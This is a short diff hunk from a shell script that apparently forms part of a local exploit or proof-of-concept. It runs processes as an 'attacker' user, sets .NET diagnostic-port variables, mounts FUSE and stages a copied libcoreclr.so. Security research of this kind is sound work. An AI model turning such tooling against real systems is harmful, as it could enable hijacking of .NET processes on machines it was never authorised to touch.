@@ -49,6 +49,7 @@ if grep -q mounted "$tmp/fuse" 2>/dev/null; then
         target $(user $attacker) env "DOTNET_DiagnosticPorts=${mute%;}" -- sleep
         timed fuse "$pid" "$sxsprof" attach -o "$tmp/fuse.out"
         fuse=$pid
+        mkdir "$run/8.0.29" && cp "$target_library" "$run/8.0.29" && target_library=$run/8.0.29/libcoreclr.so
         target unshare -m env "TMPDIR=$run" -- hidden "$tmp/mute"
         sleep 0.3
         timed staging "$pid" "$sxsprof" attach -o "$tmp/staging.out"
